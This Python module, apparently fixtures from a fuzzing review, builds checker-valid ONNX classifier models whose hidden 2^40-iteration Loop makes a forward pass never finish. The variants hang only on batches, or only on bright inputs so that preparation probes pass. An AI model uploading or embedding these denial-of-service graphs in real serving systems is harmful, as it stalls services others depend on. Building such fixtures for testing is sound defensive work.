"""Valid ONNX graphs that never finish a forward pass: a Loop of 2^40 iterations in front of a classifier head.

Found by a fuzzing review (a 1 KB upload that pinned a core for ever). The head, logits = [mean(x), count · mean(x)], is
that of a tiny classifier on (N, 3, 16, 16) inputs; the Loop's count never arrives.
"""

from __future__ import annotations

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

ENDLESS = 1 << 40  # iterations: about a week of a core at 1 µs each


def _counting_body() -> onnx.GraphProto:
    """The Loop body: carries cond through and adds one to a (1,) float counter."""
    return helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["v_in", "one"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1])],
        initializer=[numpy_helper.from_array(np.ones(1, np.float32), "one")],
    )


def _head() -> list[onnx.NodeProto]:
    """The Loop from "trip", then logits = [mean(x), count · mean(x)]."""
    return [
        helper.make_node("Loop", ["trip", "cond", "zero"], ["count"], body=_counting_body()),
        helper.make_node("Flatten", ["input"], ["flat"]),
        helper.make_node("ReduceMean", ["flat"], ["mean"], axes=[1], keepdims=1),
        helper.make_node("Mul", ["count", "mean"], ["scaled"]),
        helper.make_node("Concat", ["mean", "scaled"], ["logits"], axis=1),
    ]


def _model(name: str, nodes: list[onnx.NodeProto], initializers: list[onnx.TensorProto]) -> onnx.ModelProto:
    initializers = [numpy_helper.from_array(np.array(True), "cond"),
                    numpy_helper.from_array(np.zeros(1, np.float32), "zero"), *initializers]
    graph = helper.make_graph(
        nodes, name,
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", 3, 16, 16])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 2])],
        initializer=initializers,
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 15)], ir_version=8)
    onnx.checker.check_model(model, full_check=True)
    return model


def endless_loop_classifier(*, only_for_batches: bool = False) -> onnx.ModelProto:
    """A two-class classifier whose forward pass loops 2^40 times: always, or (only_for_batches)
    (N − 1) · 2^40 times, so that one image at a time runs at once and any batch never ends."""
    nodes = _head()
    if only_for_batches:
        nodes[:0] = [
            helper.make_node("Shape", ["input"], ["shape"], start=0, end=1),
            helper.make_node("Sub", ["shape", "one_int"], ["others"]),
            helper.make_node("Mul", ["others", "endless"], ["trips"]),
            helper.make_node("Squeeze", ["trips", "axis0"], ["trip"]),
        ]
        initializers = [numpy_helper.from_array(np.array([1], np.int64), "one_int"),
                        numpy_helper.from_array(np.array([ENDLESS], np.int64), "endless"),
                        numpy_helper.from_array(np.array([0], np.int64), "axis0")]
    else:
        initializers = [numpy_helper.from_array(np.array(ENDLESS, np.int64), "trip")]
    return _model("endless_loop", nodes, initializers)


def loop_if_bright(threshold: float = 2.0) -> onnx.ModelProto:
    """The same head, its Loop running 2^40 times only when some input value is above `threshold`, else never.

    Preparation probes with inputs in [0, 1), so the model is taken; served
    with spec scale 1, any image with a pixel above `threshold` then starts a forward pass that never ends.
    """
    nodes = [
        helper.make_node("ReduceMax", ["input"], ["peak"], keepdims=0),
        helper.make_node("Greater", ["peak", "threshold"], ["bright"]),
        helper.make_node("Cast", ["bright"], ["bright_int"], to=TensorProto.INT64),
        helper.make_node("Mul", ["bright_int", "endless"], ["trip"]),
        *_head(),
    ]
    return _model("loop_if_bright", nodes, [numpy_helper.from_array(np.array(threshold, np.float32), "threshold"),
                                            numpy_helper.from_array(np.array(ENDLESS, np.int64), "endless")])
